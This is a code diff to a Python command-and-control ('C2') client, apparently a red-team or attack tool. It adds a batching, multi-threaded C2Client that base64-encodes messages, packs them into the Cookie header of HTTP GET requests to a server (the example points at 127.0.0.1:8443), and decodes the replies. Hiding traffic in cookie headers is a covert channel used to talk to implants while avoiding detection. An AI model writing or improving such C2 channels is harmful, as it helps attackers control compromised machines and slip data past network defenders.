@@ -1,5 +1,15 @@
-import requests
+import threading
+import time
 from base64 import b64encode, b64decode
+from collections import deque
+from concurrent.futures import Future
+
+import requests
+from requests.adapters import HTTPAdapter
+
+# Batched messages travel in one Cookie as base64 chunks joined by ".",
+# which base64 never produces; the reply comes back the same way, in order.
+SEPARATOR = "."
 
 def C2(url, data):
     # Encode outbound data
@@ -13,7 +23,144 @@ def C2(url, data):
 
 # -----------------------------
 
-url = "http://127.0.0.1:8443"
-data = b"test data from client"
+class C2Client:
+    """
+    Keeps one pooled keep-alive session to the server and batches outbound
+    messages, so high message rates don't pay a TCP handshake and a round
+    trip each.
+
+    send() queues a message and returns a Future for its reply. A batch
+    goes out when it holds `max_batch` messages or `max_bytes` of encoded
+    data, or `flush_interval` seconds after its first message was queued,
+    whichever comes first. `pool_size` sender threads post batches, so up
+    to that many are in flight at once, each on its own keep-alive
+    connection; replies still reach the right Future whatever order the
+    batches finish in.
+    """
+
+    def __init__(self, url, max_batch=32, max_bytes=4096, flush_interval=0.05,
+                 timeout=10, pool_size=4):
+        self.url = url
+        self.max_batch = max_batch
+        self.max_bytes = max_bytes
+        self.flush_interval = flush_interval
+        self.timeout = timeout
+
+        self.session = requests.Session()
+        adapter = HTTPAdapter(pool_connections=1, pool_maxsize=pool_size)
+        self.session.mount("http://", adapter)
+        self.session.mount("https://", adapter)
+
+        self._queue = deque()   # (encoded message, Future)
+        self._queued_bytes = 0
+        self._oldest = None     # monotonic time the current batch was started
+        self._closed = False
+        self._lock = threading.Condition()
+        self._senders = [
+            threading.Thread(target=self._run, name=f"c2-sender-{i}", daemon=True)
+            for i in range(max(1, pool_size))
+        ]
+        for sender in self._senders:
+            sender.start()
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *exc):
+        self.close()
+
+    def send(self, data):
+        encoded = b64encode(data).decode()
+        future = Future()
+        with self._lock:
+            if self._closed:
+                raise RuntimeError("client is closed")
+            if not self._queue:
+                self._oldest = time.monotonic()
+            self._queue.append((encoded, future))
+            self._queued_bytes += len(encoded) + 1
+            self._lock.notify()
+        return future
+
+    def request(self, data):
+        # One message, waiting for its reply
+        return self.send(data).result()
+
+    def flush(self):
+        # Send whatever is queued right now
+        with self._lock:
+            batch = self._take()
+        if batch:
+            self._post(batch)
+
+    def close(self):
+        with self._lock:
+            self._closed = True
+            self._lock.notify_all()
+        for sender in self._senders:
+            sender.join()
+        self.session.close()
+
+    def _full(self):
+        return len(self._queue) >= self.max_batch or self._queued_bytes >= self.max_bytes
+
+    def _take(self):
+        # Pop one batch off the queue (caller holds the lock)
+        batch, size = [], 0
+        while self._queue and len(batch) < self.max_batch:
+            encoded = self._queue[0][0]
+            if batch and size + len(encoded) + 1 > self.max_bytes:
+                break
+            batch.append(self._queue.popleft())
+            size += len(encoded) + 1
+        self._queued_bytes -= size
+        self._oldest = time.monotonic() if self._queue else None
+        return batch
+
+    def _run(self):
+        while True:
+            with self._lock:
+                while not self._closed:
+                    if self._queue and self._full():
+                        break
+                    if self._queue:
+                        wait = self._oldest + self.flush_interval - time.monotonic()
+                        if wait <= 0:
+                            break
+                        self._lock.wait(wait)
+                    else:
+                        self._lock.wait()
+                if self._closed and not self._queue:
+                    return
+                batch = self._take()
+                if self._queue:
+                    self._lock.notify()  # let another sender pick up the rest
+            self._post(batch)
+
+    def _post(self, batch):
+        try:
+            response = self.session.get(
+                self.url,
+                headers={"Cookie": SEPARATOR.join(encoded for encoded, _ in batch)},
+                timeout=self.timeout,
+            )
+            response.raise_for_status()
+            replies = response.content.decode().split(SEPARATOR)
+            if len(replies) != len(batch):
+                raise ValueError(
+                    f"server sent {len(replies)} replies for {len(batch)} messages"
+                )
+        except Exception as e:
+            for _, future in batch:
+                future.set_exception(e)
+            return
+        for (_, future), reply in zip(batch, replies):
+            future.set_result(b64decode(reply))
+
+# -----------------------------
+
+if __name__ == "__main__":
+    url = "http://127.0.0.1:8443"
+    data = b"test data from client"
 
-C2(url, data)
+    C2(url, data)